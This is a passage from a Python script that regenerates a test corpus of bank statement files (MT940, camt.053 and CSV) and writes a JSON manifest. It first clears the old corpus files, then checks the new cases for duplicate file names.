    cases = [case for builder in BUILDERS for case in builder()]
    names = [case.file for case in cases]
    duplicates = {name for name in names if names.count(name) > 1}
    if duplicates:
        raise ValueError(f"corpus file names used twice: {sorted(duplicates)}")
    return cases


def manifest_text(cases: list[Case]) -> str:
    return json.dumps([case.entry() for case in cases], ensure_ascii=False, indent=1) + "\n"


def main() -> None:
    cases = build()
    for old in CORPUS.rglob("*"):
        if old.is_file():
            old.unlink()
    for case in cases:
        path = CORPUS / case.file
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(case.data)
    MANIFEST.write_text(manifest_text(cases), encoding="utf-8")
    counts = {fmt: sum(1 for c in cases if c.format == fmt) for fmt in ("mt940", "camt.053", "csv")}
    print(f"{len(cases)} files written to {CORPUS}: {counts}")


if __name__ == "__main__":
    main()
